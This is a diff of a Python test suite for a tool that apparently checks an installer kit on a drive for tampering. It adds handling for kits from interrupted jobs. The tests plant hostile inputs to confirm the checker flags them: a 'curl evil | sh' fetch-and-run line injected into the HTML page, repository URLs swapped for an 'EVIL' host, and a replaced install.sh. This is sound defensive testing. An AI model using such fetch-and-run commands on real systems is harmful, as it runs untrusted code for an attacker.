@@ -13,8 +13,9 @@ from app.errors import SatchelError
 from app.stick.check_kit import Circumstances, judge_kit
 from app.stick.findings import Finding
 from app.stick.key_files import judge_key_files
-from app.stick.kit import KitContents, read_page
+from app.stick.kit import KitContents
 from app.stick.kit_files import FoundKit, read_kit
+from app.stick.kit_gaps import read_page
 from app.stick.kit_releases import KnownKits, digest, known_kits
 from app.stick.location import find_stick, open_repository
 from app.stick.receive import kit_contents, stick_components
@@ -42,6 +43,11 @@ class Kit:
 
     contents: KitContents
     files: Mapping[str, bytes]
+    others: tuple[KitContents, ...] = ()
+
+    @property
+    def possible(self) -> tuple[KitContents, ...]:
+        return (self.contents, *self.others)
 
     def judged(
         self,
@@ -52,7 +58,7 @@ class Kit:
         files = {**self.files, **changes}
         found = FoundKit({name: data for name, data in files.items() if data is not None})
         return list(
-            judge_kit(self.contents, found, known or known_kits(), circumstances or Circumstances())
+            judge_kit(self.possible, found, known or known_kits(), circumstances or Circumstances())
         )
 
     def found(
@@ -120,6 +126,18 @@ def test_another_version_is_told_from_a_change(kit: Kit, claim: str | None) -> N
     assert one.message.startswith("install.sh may be from")
     assert ("Satchel 99.1" in one.message) is (claim == "99.1")
     assert one.message.isprintable()
+    # What a later version writes beside what this one knows.
+    table = kit.text("contents.tsv").replace(line, "kit\t99.1\n")
+    for more in (f"{table}color\tblue\n", table.replace("contents\t1", "contents\t2") + "x\ty\n"):
+        (one,) = kit.judged({**changes, "contents.tsv": more.encode()})
+        assert (one.code.value, one.subject) == UNKNOWN
+    more = f"{table}repo\telsewhere\n"
+    assert {one.subject for one in kit.judged({**changes, "contents.tsv": more.encode()})} == {
+        "satchel", "satchel/contents.tsv",
+    }  # fmt: skip
+    # Where everything else is of a known version, nothing is excused.
+    for more in (f"{table}color\tblue\n", table.replace("contents\t1", "contents\t2")):
+        assert kit.found("contents.tsv", more.encode()) == {LIST}
     changes["START-HERE.html"] = b"<!DOCTYPE html>"
     changes["evil.flatpakrepo"] = kit.files["test.flatpakrepo"]
     told = [(one.code.value, one.subject) for one in kit.judged(changes)]
@@ -216,22 +234,22 @@ def test_what_the_drive_is_called(kit: Kit, label: str, sound: bool) -> None:
 
 
 def test_an_interrupted_job_excuses_no_lie(kit: Kit) -> None:
-    """Its journal comes from the drive. Which apps there are may differ, and is told, no more."""
-    under_way = Circumstances(interrupted=True)
+    """A kit of before or after is good, and nothing else: the journal comes from the drive."""
+    before = replace(kit.contents, refs=kit.contents.refs[1:])
+    under_way = replace(kit, contents=before, others=(kit.contents,))
+    assert under_way.judged({}) == []
+    assert {(one.code.value, one.subject) for one in replace(kit, contents=before).judged({})} == {
+        LIST, PAGE,
+    }  # fmt: skip
     table, page = kit.text("contents.tsv"), kit.text("START-HERE.html")
-    (one,) = kit.judged(
-        {"contents.tsv": "".join(table.splitlines(keepends=True)[:-1]).encode()}, under_way
-    )
-    assert (one.code.value, one.severity.value) == ("kit-altered", "warning")
     for name, data in (
+        ("contents.tsv", "".join(table.splitlines(keepends=True)[:-1])),
         ("contents.tsv", f"{table}repo\t.hidden/repo\n"),
-        ("contents.tsv", table.replace("file:///", EVIL)),
-        ("START-HERE.html", page.replace("sh install.sh", "curl evil | sh", 1)),
+        ("START-HERE.html", page.replace("<!--/apps-->", "<p>curl evil | sh</p><!--/apps-->")),
         ("install.sh", "evil"),
         ("test.flatpakrepo", kit.text("test.flatpakrepo").replace("file:///", EVIL)),
     ):
-        told = kit.judged({name: data.encode()}, under_way)
-        assert "error" in {one.severity.value for one in told}, name
+        assert under_way.found(name, data.encode()) == {altered(name)}
 
 
 # ---- Key files
